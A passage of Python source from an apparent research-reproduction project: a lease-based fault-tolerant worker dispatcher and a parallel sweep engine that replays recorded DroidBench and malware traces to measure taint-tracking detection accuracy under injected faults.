from dataclasses import dataclass, field
from multiprocessing import connection
from typing import Callable, Dict, List, Optional

from repro.sweep.chaos import ChaosInjector, ChaosPlan
from repro.sweep.leases import BackoffPolicy, LeaseSupervisor, PoisonedCell

#: Seconds between worker control-plane heartbeats (lease renewals).
DEFAULT_HEARTBEAT_INTERVAL = 0.25

#: Parent poll granularity while waiting for worker messages.
_POLL_INTERVAL = 0.05

#: How long shutdown waits for a worker to honor a "stop" before SIGKILL.
_STOP_GRACE = 1.0


class DispatchError(RuntimeError):
    """The queue backend cannot make progress (workers exhausted)."""


@dataclass
class DispatchStats:
    """What the dispatcher did beyond evaluating cells."""

    retries: int = 0
    worker_deaths: int = 0
    worker_restarts: int = 0
    lease_renewals: int = 0
    poisoned: List[PoisonedCell] = field(default_factory=list)


# -- worker side -------------------------------------------------------------


def _queue_worker_main(
    conn,
    cache_payload: dict,
    relay_payload: Optional[dict],
    chaos_payload: Optional[dict],
    heartbeat_interval: float,
) -> None:
    """Long-lived worker loop: recv cell, claim, evaluate, ship result.

    All sends share one lock (the heartbeat thread and the main thread
    write the same pipe); a vanished parent turns sends into no-ops and
    the next ``recv`` ends the loop.
    """
    from repro.sweep import engine

    engine._init_worker(cache_payload, relay_payload)
    chaos = ChaosPlan.from_payload(chaos_payload)
    injector = ChaosInjector(chaos) if chaos is not None else None
    send_lock = threading.Lock()
    current_cell: List[Optional[int]] = [None]
    stop = threading.Event()

    def send(message) -> None:
        with send_lock:
            try:
                conn.send(message)
            except (BrokenPipeError, OSError):
                stop.set()

    def beat() -> None:
        while not stop.wait(heartbeat_interval):
            send(("heartbeat", current_cell[0]))

    if heartbeat_interval:
        threading.Thread(
            target=beat, name="dispatch-heartbeat", daemon=True
        ).start()
    try:
        while not stop.is_set():
            try:
                message = conn.recv()
            except (EOFError, OSError):
                break
            if message[0] == "stop":
                break
            _, cell, attempt = message
            current_cell[0] = cell.index
            send(("claim", cell.index, attempt))
            try:
                if injector is not None:
                    result = injector.run(
                        cell.index,
                        attempt,
                        lambda: engine._run_cell_in_worker(cell),
                    )
                else:
                    result = engine._run_cell_in_worker(cell)
            except Exception as error:
                current_cell[0] = None
                send(
                    ("error", cell.index, f"{type(error).__name__}: {error}")
                )
                continue
            current_cell[0] = None
            send(("result", cell.index, result))
    finally:
        stop.set()


# -- parent side -------------------------------------------------------------


class _WorkerHandle:
    """One worker process slot: pipe, process, current lease, liveness."""

    def __init__(self, ident: int, process, conn) -> None:
        self.ident = ident
        self.process = process
        self.conn = conn
        self.lease = None
        self.dead = False

    @property
    def pid(self) -> Optional[int]:
        return self.process.pid

    def idle(self) -> bool:
        return not self.dead and self.lease is None


class QueueBackend:
    """Lease-based dispatcher implementing the sweep backend interface.

    Args:
        jobs: worker process count (replacements stay under this cap).
        lease_timeout: seconds a cell may go un-heartbeated before its
            holder is declared dead and the cell requeues.
        max_retries: failed attempts beyond the first before a cell is
            quarantined as poison.
        max_worker_restarts: replacement workers spawned across the run
            (default ``4 * jobs``); exhaustion with live cells raises
            :class:`DispatchError` rather than hanging.
        backoff: requeue delay policy (defaults to
            :class:`~repro.sweep.leases.BackoffPolicy`).
        chaos: a :class:`~repro.sweep.chaos.ChaosPlan` injected into
            workers (tests/CI only).
        heartbeat_interval: worker control heartbeat cadence.
        on_retry / on_poison / on_death: observer callbacks the engine
            uses for journaling and telemetry events.
    """

    name = "queue"

    def __init__(
        self,
        jobs: int,
        lease_timeout: float = 30.0,
        max_retries: int = 3,
        max_worker_restarts: Optional[int] = None,
        backoff: Optional[BackoffPolicy] = None,
        chaos: Optional[ChaosPlan] = None,
        heartbeat_interval: float = DEFAULT_HEARTBEAT_INTERVAL,
        context=None,
        on_retry: Optional[Callable[[int, int, str], None]] = None,
        on_poison: Optional[Callable[[PoisonedCell], None]] = None,
        on_death: Optional[Callable[[int, Optional[int]], None]] = None,
    ) -> None:
        if jobs < 1:
            raise ValueError(f"jobs must be >= 1, got {jobs}")
        if context is None:
            from repro.sweep.engine import _pool_context

            context = _pool_context()
        self.jobs = jobs
        self.context = context
        self.lease_timeout = lease_timeout
        self.max_retries = max_retries
        self.max_worker_restarts = (
            max_worker_restarts if max_worker_restarts is not None else 4 * jobs
        )
        self.backoff = backoff
        self.chaos = chaos
        self.heartbeat_interval = heartbeat_interval
        self.on_retry = on_retry
        self.on_poison = on_poison
        self.on_death = on_death
        self.stats = DispatchStats()
        self._workers: List[_WorkerHandle] = []
        self._next_ident = 0
        self._cache_payload: Optional[dict] = None
        self._relay_payload: Optional[dict] = None
        #: pids whose relay heartbeats arrived since the last tick
        #: (filled from the relay drain thread, applied on the main loop).
        self._relay_beats: set = set()
        self._relay_beats_lock = threading.Lock()

    # -- relay integration -------------------------------------------------

    def renew_lease_by_pid(self, pid: Optional[int]) -> None:
        """Relay-heartbeat hook: mark ``pid`` alive (thread-safe)."""
        if pid is not None:
            with self._relay_beats_lock:
                self._relay_beats.add(int(pid))

    def _apply_relay_beats(self, supervisor: LeaseSupervisor, now: float) -> None:
        with self._relay_beats_lock:
            beats, self._relay_beats = self._relay_beats, set()
        if not beats:
            return
        for handle in self._workers:
            if not handle.dead and handle.pid in beats:
                supervisor.heartbeat(handle.ident, now)

    # -- worker lifecycle --------------------------------------------------

    def _spawn_worker(self) -> _WorkerHandle:
        parent_conn, child_conn = self.context.Pipe(duplex=True)
        ident = self._next_ident
        self._next_ident += 1
        process = self.context.Process(
            target=_queue_worker_main,
            args=(
                child_conn,
                self._cache_payload,
                self._relay_payload,
                self.chaos.as_payload() if self.chaos is not None else None,
                self.heartbeat_interval,
            ),
            name=f"sweep-queue-worker-{ident}",
            daemon=True,
        )
        process.start()
        child_conn.close()
        handle = _WorkerHandle(ident, process, parent_conn)
        self._workers.append(handle)
        return handle

    def _handle_death(
        self, handle: _WorkerHandle, supervisor: LeaseSupervisor, now: float
    ) -> None:
        """A worker died (or was killed for lease expiry): fail its lease,
        requeue or poison the cell, respawn a replacement if allowed."""
        if handle.dead:
            return
        handle.dead = True
        handle.lease = None
        self.stats.worker_deaths += 1
        if self.on_death is not None:
            self.on_death(handle.ident, handle.pid)
        if handle.process.is_alive():
            handle.process.kill()
        try:
            handle.conn.close()
        except OSError:
            pass
        for outcome in supervisor.worker_lost(handle.ident, now):
            if isinstance(outcome, PoisonedCell):
                self._note_poison(outcome)
        self._maybe_respawn(supervisor)

    def _maybe_respawn(self, supervisor: LeaseSupervisor) -> None:
        alive = [h for h in self._workers if not h.dead]
        wanted = min(self.jobs, supervisor.outstanding())
        while len(alive) < wanted:
            if self.stats.worker_restarts >= self.max_worker_restarts:
                break
            self.stats.worker_restarts += 1
            alive.append(self._spawn_worker())

    def _note_poison(self, poisoned: PoisonedCell) -> None:
        self.stats.poisoned.append(poisoned)
        if self.on_poison is not None:
            self.on_poison(poisoned)

    def _note_retry(self, cell_index: int, attempt: int, reason: str) -> None:
        if self.on_retry is not None:
            self.on_retry(cell_index, attempt, reason)

    # -- message pump ------------------------------------------------------

    def _handle_message(
        self,
        handle: _WorkerHandle,
        message,
        supervisor: LeaseSupervisor,
        note,
        now: float,
    ) -> None:
        kind = message[0]
        if kind == "heartbeat" or kind == "claim":
            supervisor.heartbeat(handle.ident, now)
        elif kind == "result":
            _, cell_index, result = message
            supervisor.heartbeat(handle.ident, now)
            if handle.lease is not None and handle.lease.cell_index == cell_index:
                handle.lease = None
            if supervisor.complete(cell_index):
                note(result)
        elif kind == "error":
            _, cell_index, error = message
            attempt = supervisor.attempts(cell_index)
            if handle.lease is not None and handle.lease.cell_index == cell_index:
                handle.lease = None
            outcome = supervisor.fail(cell_index, now, error)
            if isinstance(outcome, PoisonedCell):
                self._note_poison(outcome)
            elif cell_index not in supervisor.completed:
                self._note_retry(cell_index, attempt, error)

    def _drain(
        self, supervisor: LeaseSupervisor, note, timeout: float
    ) -> None:
        conns = {
            handle.conn: handle
            for handle in self._workers
            if not handle.dead
        }
        if not conns:
            time.sleep(min(timeout, _POLL_INTERVAL))
            return
        for ready in connection.wait(list(conns), timeout):
            handle = conns[ready]
            while True:
                try:
                    if not ready.poll():
                        break
                    message = ready.recv()
                except (EOFError, OSError):
                    # Pipe torn mid-message: the process is (or is about
                    # to be) dead; the death sweep requeues its cell.
                    break
                self._handle_message(
                    handle, message, supervisor, note, time.monotonic()
                )

    # -- main loop ---------------------------------------------------------

    def run(
        self,
        pending,
        cache_payload: dict,
        note,
        relay_payload: Optional[dict] = None,
    ) -> DispatchStats:
        """Evaluate ``pending`` cells; returns dispatch accounting.

        ``note`` is called exactly once per completed cell, in
        completion order (the engine re-sorts into grid order).  Raises
        :class:`DispatchError` only when every retry avenue is exhausted
        with cells still outstanding.
        """
        pending = list(pending)
        self._cache_payload = cache_payload
        self._relay_payload = relay_payload
        now = time.monotonic()
        supervisor = LeaseSupervisor(
            pending,
            lease_timeout=self.lease_timeout,
            max_retries=self.max_retries,
            backoff=self.backoff
            or BackoffPolicy(seed=getattr(self.chaos, "seed", 0)),
            now=now,
        )
        for _ in range(min(self.jobs, len(pending))):
            self._spawn_worker()
        try:
            while not supervisor.done():
                now = time.monotonic()
                self._apply_relay_beats(supervisor, now)
                self._assign(supervisor, now)
                self._drain(supervisor, note, self._wait_budget(supervisor, now))
                now = time.monotonic()
                self._reap(supervisor, now)
                self._expire(supervisor, now)
                self._check_progress(supervisor)
        finally:
            self._shutdown()
        self.stats.retries = supervisor.retries
        self.stats.lease_renewals = supervisor.renewals
        return self.stats

    def _assign(self, supervisor: LeaseSupervisor, now: float) -> None:
        for handle in self._workers:
            if not handle.idle():
                continue
            cell = supervisor.next_ready(now)
            if cell is None:
                return
            lease = supervisor.grant(cell.index, handle.ident, now)
            try:
                handle.conn.send(("cell", cell, lease.attempt))
                handle.lease = lease
            except (BrokenPipeError, OSError):
                self._handle_death(handle, supervisor, now)

    def _wait_budget(self, supervisor: LeaseSupervisor, now: float) -> float:
        """Sleep no further than the next backoff release or poll tick."""
        budget = _POLL_INTERVAL
        ready_at = supervisor.next_ready_at()
        if ready_at is not None and ready_at > now:
            budget = min(budget, ready_at - now)
        return max(budget, 0.001)

    def _reap(self, supervisor: LeaseSupervisor, now: float) -> None:
        for handle in self._workers:
            if not handle.dead and not handle.process.is_alive():
                self._note_lost_lease(handle, supervisor)
                self._handle_death(handle, supervisor, now)

    def _expire(self, supervisor: LeaseSupervisor, now: float) -> None:
        for lease in supervisor.expired_leases(now):
            for handle in self._workers:
                if handle.ident == lease.worker and not handle.dead:
                    # Quiet past the TTL: dead, frozen, or wedged.  Kill
                    # it (SIGKILL works on SIGSTOPped processes too) and
                    # let the death path requeue + respawn.
                    handle.process.kill()
                    self._note_lost_lease(handle, supervisor)
                    self._handle_death(handle, supervisor, now)

    def _note_lost_lease(
        self, handle: _WorkerHandle, supervisor: LeaseSupervisor
    ) -> None:
        lease = handle.lease
        if lease is not None and lease.cell_index not in supervisor.completed:
            if lease.attempt <= self.max_retries:
                self._note_retry(lease.cell_index, lease.attempt, "worker lost")

    def _check_progress(self, supervisor: LeaseSupervisor) -> None:
        if supervisor.done():
            return
        if any(not handle.dead for handle in self._workers):
            return
        if self.stats.worker_restarts >= self.max_worker_restarts:
            raise DispatchError(
                f"queue backend out of workers: {supervisor.outstanding()} "
                f"cells outstanding, {self.stats.worker_deaths} worker "
                f"deaths, restart budget {self.max_worker_restarts} spent"
            )
        self._maybe_respawn(supervisor)

    def _shutdown(self) -> None:
        for handle in self._workers:
            if handle.dead:
                continue
            try:
                handle.conn.send(("stop",))
            except (BrokenPipeError, OSError):
                pass
        deadline = time.monotonic() + _STOP_GRACE
        for handle in self._workers:
            if handle.dead:
                continue
            handle.process.join(max(deadline - time.monotonic(), 0.05))
            if handle.process.is_alive():
                handle.process.kill()
                handle.process.join(_STOP_GRACE)
            try:
                handle.conn.close()
            except OSError:
                pass

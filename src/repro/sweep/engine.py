"""The parallel experiment engine: fan sweep cells across a process pool.

``run_sweep`` takes an iterable of :class:`~repro.sweep.specs.SweepCell`
(or a :class:`~repro.sweep.specs.GridSpec`) and evaluates every cell,
either inline (``jobs=1``) or across a ``multiprocessing`` pool.  The
contract is *bit-identical results at any worker count*: cells are pure
functions of ``(cell, trace cache)``, the cache is recorded once in the
parent, per-cell seeds are fixed in the specs, and results are collected
in submission order — so ``--jobs 8`` may only change wall-clock time,
never a verdict, a stat, or a fault draw.

Worker-side evaluation mirrors :func:`repro.analysis.degradation
.degradation_curve`'s per-point logic exactly (the rewired analysis entry
points delegate here), with one fast path: a cell whose fault plan cannot
fire replays through the batched
:func:`~repro.analysis.replay.replay` instead of the per-event injector
loop — parity between the two is covered by
``tests/unit/test_faults.py`` and ``tests/property/test_batch_parity.py``.
"""

from __future__ import annotations

import multiprocessing
import os
import time
from dataclasses import dataclass, field
from typing import Callable, Iterable, List, Optional, Union

from repro.core.config import PIFTConfig
from repro.core.faults import FaultPlan, FaultRates, FaultStats
from repro.sweep.cache import TraceCache
from repro.sweep.specs import GridSpec, SweepCell, resolve_state_factory

ProgressCallback = Callable[["CellResult", int, int], None]


@dataclass
class CellResult:
    """Everything one cell produced.

    ``as_dict`` contains only the deterministic payload — verdicts,
    stats, fault draws — and is what serial-vs-parallel equality checks
    compare.  Timing fields (``duration_seconds``, ``worker``) vary run
    to run and are reported separately.
    """

    index: int
    config: PIFTConfig
    rate: float
    site: str
    seed: int
    state_spec: str
    report: Optional[object] = None  # AccuracyReport
    malware_detected: Optional[int] = None
    malware_total: Optional[int] = None
    #: Per-source attribution payload (SuiteAttribution.as_dict()) when
    #: the cell asked for colours; None otherwise.  Deterministic — the
    #: coloured replay registers colour bits in recorded instruction
    #: order — so it participates in serial-vs-parallel equality.
    colours: Optional[dict] = None
    fault_stats: FaultStats = field(default_factory=FaultStats)
    events_tracked: int = 0
    operations: int = 0
    duration_seconds: float = 0.0
    worker: int = 0

    @property
    def accuracy(self) -> Optional[float]:
        return self.report.accuracy if self.report is not None else None

    def as_dict(self) -> dict:
        payload: dict = {
            "index": self.index,
            "ni": self.config.window_size,
            "nt": self.config.max_propagations,
            "untainting": self.config.untainting,
            "vectorized": self.config.vectorized,
            "rate": self.rate,
            "site": self.site,
            "seed": self.seed,
            "state_spec": self.state_spec,
            "events_tracked": self.events_tracked,
            "operations": self.operations,
            "faults": self.fault_stats.as_dict(),
        }
        if self.report is not None:
            payload["accuracy"] = self.report.accuracy
            payload["report"] = self.report.as_dict()
        if self.malware_total is not None:
            payload["malware_detected"] = self.malware_detected
            payload["malware_total"] = self.malware_total
        if self.colours is not None:
            payload["colours"] = self.colours
        return payload


@dataclass
class SweepResult:
    """All cell results plus run-level engine accounting."""

    cells: List[CellResult]
    jobs: int
    wall_seconds: float
    #: Cells served from a resume journal instead of being evaluated
    #: (bookkeeping only — the deterministic payload is unaffected).
    resumed: int = 0
    #: Cells quarantined after exhausting their retry budget (queue
    #: backend only): explicit machine-readable holes in the grid, each
    #: ``{"index", "attempts", "error"}``.
    poisoned: List[dict] = field(default_factory=list)
    #: Queue-backend fault accounting (zeros under the pool backend).
    retries: int = 0
    worker_deaths: int = 0
    worker_restarts: int = 0

    def as_dict(self) -> dict:
        """Deterministic payload only (timings live in :meth:`timings`)."""
        return {
            "cells": [cell.as_dict() for cell in self.cells],
            "poisoned": list(self.poisoned),
        }

    def timings(self) -> dict:
        """Non-deterministic run accounting: wall clock and per-worker load."""
        per_worker: dict = {}
        for cell in self.cells:
            row = per_worker.setdefault(
                cell.worker, {"cells": 0, "events": 0, "busy_seconds": 0.0}
            )
            row["cells"] += 1
            row["events"] += cell.events_tracked
            row["busy_seconds"] += cell.duration_seconds
        for row in per_worker.values():
            row["events_per_second"] = (
                row["events"] / row["busy_seconds"]
                if row["busy_seconds"] > 0
                else 0.0
            )
        return {
            "jobs": self.jobs,
            "wall_seconds": self.wall_seconds,
            "cells": len(self.cells),
            "resumed": self.resumed,
            "events_tracked": sum(c.events_tracked for c in self.cells),
            "workers": per_worker,
            "retries": self.retries,
            "worker_deaths": self.worker_deaths,
            "worker_restarts": self.worker_restarts,
            "poisoned": len(self.poisoned),
        }


def run_cell(
    cell: SweepCell, cache: TraceCache, telemetry=None
) -> CellResult:
    """Evaluate one cell against the cached recordings (pure, per-seed).

    ``telemetry`` instruments at **cell granularity** only: a
    ``sweep.cell`` span plus tracker counters derived from the replayed
    stats after the fact.  The hub is deliberately *not* passed into
    ``replay``/``faulted_replay`` — attaching a hub to the tracker binds
    per-event shadow methods and disables the vectorised column kernel,
    which would both distort the sweep being observed and flood the
    relay with per-mutation events.
    """
    from contextlib import nullcontext

    from repro.analysis.accuracy import AccuracyReport
    from repro.analysis.degradation import _accumulate, faulted_replay
    from repro.analysis.replay import replay
    from repro.telemetry.hub import active

    tel = active(telemetry)
    started = time.perf_counter()
    state_factory = resolve_state_factory(cell.state_spec)
    plan = FaultPlan(
        seed=cell.seed, rates=cell.base_rates or FaultRates()
    ).with_rates(**{cell.site: cell.rate})
    result = CellResult(
        index=cell.index,
        config=cell.config,
        rate=cell.rate,
        site=cell.site,
        seed=cell.seed,
        state_spec=cell.state_spec,
    )

    def track(recorded):
        if plan.enabled:
            replayed, stats = faulted_replay(
                recorded, cell.config, plan, state_factory=state_factory
            )
        else:
            replayed = replay(recorded, cell.config, state_factory=state_factory)
            stats = None
        result.events_tracked += (
            replayed.stats.loads_observed + replayed.stats.stores_observed
        )
        result.operations += replayed.stats.total_operations
        if tel is not None:
            m = tel.metrics
            m.counter("tracker.loads").inc(replayed.stats.loads_observed)
            m.counter("tracker.stores").inc(replayed.stats.stores_observed)
            m.counter("tracker.events").inc(
                replayed.stats.loads_observed + replayed.stats.stores_observed
            )
            m.counter("tracker.taint_ops").inc(
                replayed.stats.taint_operations
            )
            m.counter("tracker.untaint_ops").inc(
                replayed.stats.untaint_operations
            )
        return replayed, stats

    span = (
        tel.span(
            "sweep.cell",
            cell_index=cell.index,
            ni=cell.config.window_size,
            nt=cell.config.max_propagations,
            rate=cell.rate,
            site=cell.site,
        )
        if tel is not None
        else nullcontext()
    )
    with span:
        if cell.droidbench:
            report = AccuracyReport()
            for app in cache.droidbench_runs():
                replayed, stats = track(app.recorded)
                if stats is not None:
                    _accumulate(result.fault_stats, stats)
                report.record(app.name, app.leaks, replayed.alarm)
            result.report = report
            if cell.colours:
                # Attribution pass: coloured replay over the pristine
                # recordings.  Fault plans apply to the *verdict* replay
                # above only — attribution answers "which source fed
                # this flow", a property of the recorded run, not of a
                # particular fault draw.
                from repro.analysis.provenance import attribute_suite

                result.colours = attribute_suite(
                    cache.droidbench_runs(), cell.config
                ).as_dict()
        if cell.malware:
            runs = cache.malware_runs()
            detected = 0
            for run in runs:
                replayed, stats = track(run.recorded)
                detected += int(replayed.alarm)
                if stats is not None and not cell.droidbench:
                    _accumulate(result.fault_stats, stats)
            result.malware_detected = detected
            result.malware_total = len(runs)
    result.duration_seconds = time.perf_counter() - started
    result.worker = os.getpid()
    return result


# -- pool plumbing -----------------------------------------------------------

_WORKER_CACHE: Optional[TraceCache] = None
_WORKER_TELEMETRY = None


def _init_worker(payload: dict, relay_payload: Optional[dict] = None) -> None:
    global _WORKER_CACHE, _WORKER_TELEMETRY
    _WORKER_TELEMETRY = None
    if relay_payload is not None:
        from repro.telemetry.relay import init_worker_telemetry

        _WORKER_TELEMETRY = init_worker_telemetry(relay_payload)
    _WORKER_CACHE = TraceCache.from_payload(
        payload, telemetry=_WORKER_TELEMETRY
    )


def _run_cell_in_worker(cell: SweepCell) -> CellResult:
    assert _WORKER_CACHE is not None, "worker initializer did not run"
    tel = _WORKER_TELEMETRY
    if tel is None:
        return run_cell(cell, _WORKER_CACHE)
    client = tel.relay_client
    client.current_cell = cell.index
    client.heartbeat()  # mark the cell busy before any work happens
    try:
        result = run_cell(cell, _WORKER_CACHE, telemetry=tel)
    finally:
        client.current_cell = None
    client.ship_snapshot(tel.metrics, cell.index)
    return result


def _pool_context() -> multiprocessing.context.BaseContext:
    method = (
        "fork"
        if "fork" in multiprocessing.get_all_start_methods()
        else "spawn"
    )
    return multiprocessing.get_context(method)


class PoolBackend:
    """The classic ``multiprocessing.Pool`` execution backend.

    Fast and simple, but fragile: a worker dying mid-cell kills the
    sweep.  :class:`~repro.sweep.dispatch.QueueBackend` implements the
    same ``run(pending, cache_payload, note, relay_payload)`` interface
    with leases, retries, and poison-cell quarantine.
    """

    name = "pool"

    def __init__(self, jobs: int, chunksize: int = 1, context=None) -> None:
        if jobs < 1:
            raise ValueError(f"jobs must be >= 1, got {jobs}")
        self.jobs = jobs
        self.chunksize = chunksize
        self.context = context if context is not None else _pool_context()

    def run(
        self, pending, cache_payload, note, relay_payload=None
    ) -> None:
        pending = list(pending)
        with self.context.Pool(
            processes=min(self.jobs, len(pending)),
            initializer=_init_worker,
            initargs=(cache_payload, relay_payload),
        ) as pool:
            for result in pool.imap(
                _run_cell_in_worker, pending, chunksize=self.chunksize
            ):
                note(result)


def _resolve_backend(backend, jobs: int, chunksize: int, backend_options):
    """Turn ``backend`` (None / name / instance) into a backend object."""
    if backend is None or backend == "pool":
        if backend_options:
            raise ValueError(
                "backend_options only apply to the queue backend; "
                "pass backend='queue'"
            )
        return PoolBackend(jobs=jobs, chunksize=chunksize)
    if backend == "queue":
        from repro.sweep.dispatch import QueueBackend

        return QueueBackend(jobs=jobs, **(backend_options or {}))
    if hasattr(backend, "run"):
        return backend
    raise ValueError(
        f"unknown sweep backend {backend!r}; known: 'pool', 'queue'"
    )


def _wire_queue_hooks(backend, journal, telemetry) -> None:
    """Attach journaling + telemetry observers to a queue backend.

    Composes with (rather than clobbers) hooks the caller already set on
    a hand-built :class:`~repro.sweep.dispatch.QueueBackend`.  Counters
    are created lazily at first increment so fault-free runs expose the
    same metric set as the pool backend.
    """
    user_retry = backend.on_retry
    user_poison = backend.on_poison
    user_death = backend.on_death
    observing = telemetry is not None and telemetry.enabled

    def on_retry(cell_index: int, attempt: int, reason: str) -> None:
        if journal is not None:
            journal.append_attempt(cell_index, attempt, reason)
        if observing:
            telemetry.metrics.counter(
                "sweep.cell.retries",
                "cell attempts requeued after a lost worker or error",
            ).inc()
            telemetry.event(
                "sweep_cell_retry",
                index=cell_index,
                attempt=attempt,
                reason=reason,
            )
        if user_retry is not None:
            user_retry(cell_index, attempt, reason)

    def on_poison(poisoned) -> None:
        if journal is not None:
            journal.append_poison(
                poisoned.cell_index, poisoned.attempts, poisoned.error
            )
        if observing:
            telemetry.metrics.counter(
                "sweep.cells.poisoned",
                "cells quarantined after exhausting their retry budget",
            ).inc()
            telemetry.event(
                "sweep_cell_poisoned",
                index=poisoned.cell_index,
                attempts=poisoned.attempts,
                error=poisoned.error,
            )
        if user_poison is not None:
            user_poison(poisoned)

    def on_death(ident: int, pid) -> None:
        if observing:
            telemetry.metrics.counter(
                "sweep.worker.deaths", "worker processes lost mid-sweep"
            ).inc()
            telemetry.event("sweep_worker_death", worker=ident, pid=pid)
        if user_death is not None:
            user_death(ident, pid)

    backend.on_retry = on_retry
    backend.on_poison = on_poison
    backend.on_death = on_death


class _EngineInstruments:
    """Parent-side telemetry for a sweep run.

    Workers report back through :class:`repro.telemetry.relay
    .TelemetryRelay` when one is attached; these instruments cover what
    only the parent sees (completion order, journal resume, run wall
    time).  Per-cell durations land twice: once in the aggregate
    ``sweep.cell.duration_seconds`` histogram and once in a
    ``worker_id``-labelled series per worker process.
    """

    _CELL_DURATION_HELP = "per-cell evaluation wall time"

    def __init__(self, telemetry) -> None:
        m = telemetry.metrics
        self.telemetry = telemetry
        self.cells = m.counter("sweep.cells", "sweep cells completed")
        self.events = m.counter(
            "sweep.events_tracked", "events re-tracked across all cells"
        )
        self.cell_duration = m.histogram(
            "sweep.cell.duration_seconds", self._CELL_DURATION_HELP
        )
        self.workers = m.gauge("sweep.jobs", "worker processes in use")
        self.resumed = m.counter(
            "sweep.resumed_cells", "cells served from a resume journal"
        )

    def observe_cell(self, result: "CellResult") -> None:
        self.cell_duration.observe(result.duration_seconds)
        self.telemetry.metrics.histogram(
            "sweep.cell.duration_seconds",
            self._CELL_DURATION_HELP,
            labels={"worker_id": str(result.worker)},
        ).observe(result.duration_seconds)


def run_sweep(
    work: Union[GridSpec, Iterable[SweepCell]],
    cache: Optional[TraceCache] = None,
    jobs: int = 1,
    telemetry=None,
    progress: Optional[ProgressCallback] = None,
    chunksize: int = 1,
    journal=None,
    stall_timeout: Optional[float] = None,
    on_stall=None,
    heartbeat_interval: Optional[float] = None,
    backend=None,
    backend_options: Optional[dict] = None,
) -> SweepResult:
    """Evaluate every cell of ``work``; identical results at any ``jobs``.

    The trace cache is primed (suites recorded, replay plans built) in
    the parent before any worker exists, then shipped to workers once via
    the pool initializer.  Results stream back in submission order, so
    ``progress`` / telemetry see cells as they finish and the returned
    list is deterministically ordered.

    With a ``journal`` (:class:`repro.store.RunJournal`) every finished
    cell is checkpointed — flushed and fsync'd — before it is reported,
    and cells the journal already holds are *not* re-evaluated: their
    recorded results splice back in at their grid positions, so a
    killed-then-resumed run returns a result bit-identical to an
    uninterrupted one.  The journal must have been created for this
    exact grid (fingerprint-checked; :class:`repro.store.JournalError`
    otherwise).

    With telemetry enabled and ``jobs > 1``, a
    :class:`~repro.telemetry.relay.TelemetryRelay` is attached: every
    worker gets its own hub whose spans and metric deltas ship back over
    a queue and merge here with ``worker_id``/``cell_index``
    attribution.  ``stall_timeout`` arms the relay's straggler detector:
    a worker quiet for longer than that many seconds mid-cell raises a
    ``worker_stall`` telemetry event and calls ``on_stall(worker_id,
    cell_index, quiet_seconds)``.  ``heartbeat_interval`` overrides the
    worker liveness cadence.  All of it is observational — results stay
    bit-identical to a telemetry-off run.

    ``backend`` selects the parallel execution strategy: ``"pool"`` (the
    default ``multiprocessing.Pool``), ``"queue"`` (the fault-tolerant
    lease dispatcher, :class:`~repro.sweep.dispatch.QueueBackend` —
    tune it via ``backend_options``, e.g. ``{"lease_timeout": 10.0,
    "max_retries": 2}``), or a pre-built backend instance.  Under the
    queue backend a cell that exhausts its retry budget is quarantined
    instead of crashing the sweep: it appears in ``SweepResult.poisoned``
    (and the journal) and its slot is simply absent from ``cells``.
    Because cells are pure, any surviving grid is still bit-identical to
    a fault-free run's values at those indexes.
    """
    cells = list(work.cells() if isinstance(work, GridSpec) else work)
    if jobs < 1:
        raise ValueError(f"jobs must be >= 1, got {jobs}")
    if len({cell.index for cell in cells}) != len(cells):
        raise ValueError("cell indexes must be unique within one sweep")
    done = {}
    if journal is not None:
        journal.check_matches(cells)
        done = journal.completed_results()
    pending = [cell for cell in cells if cell.index not in done]
    cache = cache or TraceCache()
    if pending:
        # A fully-journaled grid needs no recordings at all.
        cache.prime(
            droidbench=any(c.droidbench for c in pending),
            malware=any(c.malware for c in pending),
        )
        cache.prime_replay_state()
    instruments = None
    if telemetry is not None and telemetry.enabled:
        instruments = _EngineInstruments(telemetry)
        instruments.workers.set(jobs)
        if done:
            instruments.resumed.inc(len(done))
    started = time.perf_counter()
    finished = 0

    def note(result: CellResult) -> None:
        nonlocal finished
        if journal is not None:
            journal.append(result)
        done[result.index] = result
        finished += 1
        if instruments is not None:
            instruments.cells.inc()
            instruments.events.inc(result.events_tracked)
            instruments.observe_cell(result)
            instruments.telemetry.event(
                "sweep_cell",
                index=result.index,
                ni=result.config.window_size,
                nt=result.config.max_propagations,
                rate=result.rate,
                accuracy=result.accuracy,
                events=result.events_tracked,
                worker=result.worker,
                duration_us=round(result.duration_seconds * 1e6, 3),
            )
        if progress is not None:
            progress(result, len(done), len(cells))

    exec_backend = None
    if pending and (backend is not None or (jobs > 1 and len(pending) > 1)):
        exec_backend = _resolve_backend(backend, jobs, chunksize, backend_options)
    dispatch_stats = None
    if exec_backend is not None:
        is_queue = hasattr(exec_backend, "renew_lease_by_pid")
        if is_queue:
            _wire_queue_hooks(exec_backend, journal, telemetry)
        relay = None
        relay_payload = None
        if instruments is not None:
            from repro.telemetry.relay import TelemetryRelay

            relay_kwargs = {
                "stall_timeout": stall_timeout,
                "on_stall": on_stall,
            }
            if heartbeat_interval is not None:
                relay_kwargs["heartbeat_interval"] = heartbeat_interval
            if is_queue:
                # Relay heartbeats double as lease renewals: a worker
                # deep in a long cell stays leased as long as it keeps
                # talking to the telemetry relay.
                relay_kwargs["on_heartbeat"] = exec_backend.renew_lease_by_pid
            relay = TelemetryRelay(
                telemetry, exec_backend.context, **relay_kwargs
            )
            relay_payload = relay.worker_payload()
            relay.start()
        try:
            dispatch_stats = exec_backend.run(
                pending, cache.payload(), note, relay_payload
            )
        finally:
            if relay is not None:
                relay.stop()
    else:
        for cell in pending:
            note(run_cell(cell, cache, telemetry=telemetry))
    wall = time.perf_counter() - started
    poisoned_dicts: List[dict] = []
    retries = worker_deaths = worker_restarts = 0
    if dispatch_stats is not None:
        poisoned_dicts = [p.as_dict() for p in dispatch_stats.poisoned]
        retries = dispatch_stats.retries
        worker_deaths = dispatch_stats.worker_deaths
        worker_restarts = dispatch_stats.worker_restarts
    if instruments is not None:
        instruments.telemetry.event(
            "sweep_done",
            cells=finished,
            resumed=len(cells) - len(pending),
            jobs=jobs,
            duration_us=round(wall * 1e6, 3),
        )
    return SweepResult(
        cells=[done[cell.index] for cell in cells if cell.index in done],
        jobs=jobs,
        wall_seconds=wall,
        resumed=len(cells) - len(pending),
        poisoned=poisoned_dicts,
        retries=retries,
        worker_deaths=worker_deaths,
        worker_restarts=worker_restarts,
    )

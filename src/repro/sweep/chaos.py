"""Deterministic chaos harness for the queue backend.

Proving the fault-tolerance acceptance bar ("bit-identical grids with
workers dying and joining mid-run") needs workers that *actually die*,
on a schedule tests can replay.  A :class:`ChaosPlan` parses a spec like
``kill-workers:0.2`` and, seeded through the :mod:`repro.core.faults`
